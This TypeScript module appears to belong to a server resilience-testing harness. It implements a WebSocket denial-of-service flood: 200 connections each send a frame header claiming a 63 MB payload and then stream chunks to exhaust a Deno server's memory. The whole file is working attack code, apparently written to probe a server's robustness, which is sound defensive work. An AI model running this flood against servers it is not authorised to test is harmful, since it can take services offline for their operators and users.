import { frameHead, hold, Raw, tally } from "../raw.ts";
import type { Attack } from "../trial.ts";

const sockets = 200;
const claimed = 63 * 1024 * 1024;
const piece = new Uint8Array(256 * 1024).fill(0x20);

/** Sends nearly the whole of a frame that Deno would still take, on as many connections as there may be. */
export const attack: Attack = (target, signal) => flood(target, signal, frameHead(claimed));

export async function flood(
  target: Parameters<Attack>[0],
  signal: AbortSignal,
  head: Uint8Array,
): ReturnType<Attack> {
  const statuses: number[] = [];
  let sent = 0;
  const send = async (index: number) => {
    const { raw, status } = await Raw.upgrade(target, index % 2 === 0 ? "/ws" : "/");
    statuses.push(status);
    if (status === 101 && await raw.write(head)) {
      for (let left = claimed - piece.length; left > 0 && !signal.aborted; left -= piece.length) {
        if (!await raw.write(piece)) break;
        sent += piece.length;
      }
    }
    return raw;
  };
  const sending = Promise.all(Array.from({ length: sockets }, (_, index) => send(index)));
  await Promise.race([sending, hold(12_000, signal)]);
  const said = `${sockets} connections: ${tally(statuses)}; ${Math.round(sent / 1e6)} MB went out`;
  sending.then((raws) => raws.forEach((raw) => raw[Symbol.dispose]()));
  return { said, faults: [] };
}
